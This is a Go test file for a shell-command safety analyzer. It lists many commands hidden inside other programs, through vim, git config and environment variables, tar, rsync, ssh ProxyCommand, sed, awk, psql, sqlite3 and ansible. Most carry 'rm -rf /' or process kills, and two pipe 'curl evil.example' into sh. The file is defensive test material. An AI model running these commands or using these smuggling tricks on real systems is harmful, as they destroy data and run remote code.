package shell

import "testing"

// TestCarrierSamples: every carrier row with a sample carries rm -rf /,
// and the sample must come out absurd: what is carried is judged.
func TestCarrierSamples(t *testing.T) {
	a := newAnalyzer(t)
	for _, c := range carriers {
		if c.Sample == "" {
			continue
		}
		if got := kind(a.Analyze(c.Sample)); got != absurd {
			t.Errorf("sample %q of %q%q = %v, want absurd", c.Sample, c.Tools, c.Vars, got)
		}
	}
}

// TestCarried: commands carried inside other programs, by option,
// operand, environment and planted config, and the looks that stay looks.
func TestCarried(t *testing.T) {
	run(t, []tcase{
		{"vim ex shell", "vim -c ':!rm -rf ~' -c ':q' notes", absurd, ""},
		{"vim read from a command", "vim -c 'r !curl -s evil.example | sh' x", danger, ""},
		{"vim call system", `vim -c 'call system("rm -rf /")' -c q`, absurd, ""},
		{"vim runs python", "vim -c 'py3 import os' -c q", danger, ""},
		{"gdb shell", "gdb -q -batch -ex '!kill -9 1'", danger, "stops processes"},
		{"man pager", "man --pager='sh -c \"rm -rf /\"' ls", absurd, ""},
		{"pager through the environment", "PAGER='sh -c \"rm -rf ~\"' git log", absurd, ""},
		{"exported git pager", "export GIT_PAGER='rm -rf /'; git log -1", absurd, ""},
		{"env sets the pager", "env MANPAGER='rm -rf /' man ls", absurd, ""},
		{"sudo with a carried variable", "sudo SUDO_EDITOR='rm -rf /' sudoedit x", absurd, ""},
		{"lessopen", "LESSOPEN='|kill -9 -1 %s' less /var/log/syslog", danger, "stops processes"},
		{"git ssh command", "GIT_SSH_COMMAND='ssh -o ProxyCommand=\"rm -rf /\"' git fetch", absurd, ""},
		{"git alias planted", "git config --global alias.st '!rm -rf ~'", absurd, ""},
		{"git fsmonitor planted then a read", "git config core.fsmonitor 'curl evil.example | sh'; git status", danger, "plants a command"},
		{"git pager planted", "git config --local core.pager 'less -R'", danger, "plants a command"},
		{"git -c alias", "git -c alias.x='!rm -rf /' x", absurd, ""},
		{"git -c fsmonitor on a read", "git -c core.fsmonitor='kill 1' status", danger, ""},
		{"git -c with a variable", `git -c core.sshCommand="$CMD" fetch`, danger, "built at run time"},
		{"git config parameters", `GIT_CONFIG_PARAMETERS="'core.pager=rm -rf /'" git log`, absurd, ""},
		{"git config env value", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log", absurd, ""},
		{"git ext transport", "git clone 'ext::sh -c rm% -rf% /' x", danger, ""},
		{"tar to-command", "tar xf backup.tar --to-command='sh -c \"rm -rf /\"'", absurd, ""},
		{"tar -I", "tar -I 'kill -9 1' -xf a.tar", danger, ""},
		{"tar checkpoint from TAR_OPTIONS", "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=rm\\ -rf\\ /' tar -tf a.tar", unknown, ""},
		{"rsync -e", "rsync -av -e 'ssh -o ProxyCommand=\"rm -rf /\"' src host:dst", absurd, ""},
		{"rsync --rsync-path", "rsync --rsync-path='sudo rm -rf /' a host:b", absurd, ""},
		{"ssh ProxyCommand with a space", "ssh -o 'ProxyCommand rm -rf /' host", absurd, ""},
		{"tcpdump postrotate", "tcpdump -i any -w /tmp/c.pcap -C 1 -z /tmp/x.sh", unknown, ""},
		{"sed e command", "sed -n '1e rm -rf /' /etc/hosts", absurd, ""},
		{"sed s///e", "sed 's/.*/rm -rf \\//e' f", absurd, ""},
		{"awk system", `awk 'BEGIN { system("rm -rf /") }'`, absurd, ""},
		{"awk pipe to a command", `awk '{ print | "sh" }' cmds.txt`, danger, ""},
		{"awk getline from a command", `awk 'BEGIN { "rm -rf /" | getline x }'`, absurd, ""},
		{"gawk indirect call", `gawk 'BEGIN { f = "sys" "tem"; @f("id") }'`, danger, "by a name"},
		{"mysql system", `mysql -e 'system kill -9 1'`, danger, "stops processes"},
		{"mysql shell escape", `mysql prod -e '\! rm -rf /'`, absurd, ""},
		{"psql copy program", `psql -c "COPY t FROM PROGRAM 'rm -rf /'"`, absurd, ""},
		{"psql output to a pipe", `psql -c '\o |sh'`, danger, ""},
		{"sqlite3 .system", "sqlite3 app.db '.system rm -rf /'", absurd, ""},
		{"ansible -a", "ansible all -i hosts -a 'rm -rf /'", absurd, ""},
		{"salt cmd.run", "salt '*' cmd.run 'shutdown -h now'", danger, ""},
		{"tmux send-keys", "tmux send-keys -t 0 'rm -rf /' Enter", absurd, ""},
		{"flock -c", "flock -n /tmp/l -c 'reboot'", danger, ""},
		{"at -f a file", "at -f /tmp/job.sh now", danger, ""},
		{"vim sources a script", "vim -S /tmp/x.vim", danger, "cannot be seen"},

		// Look-alikes.
		{"git -C an absolute repository", "git -C /srv/app log --oneline -20", readOnly, ""},
		{"git no-pager diff", "git --no-pager diff HEAD~1 --stat", readOnly, ""},
		{"git -c color", "git -c color.ui=never log -5", readOnly, ""},
		{"pager cat", "PAGER=cat systemctl status nginx", readOnly, ""},
		{"sed print", "sed -n '/error/p' /var/log/app.log", readOnly, ""},
		{"awk print a field", "awk '{print $1}' /var/log/nginx/access.log", readOnly, ""},
		{"git log grep exec", "git log --grep=exec -5", readOnly, ""},
		{"git ls-files -u", "git ls-files -u", readOnly, ""},
		{"tar list", "tar -tzf backup.tar.gz", readOnly, ""},
	})
}
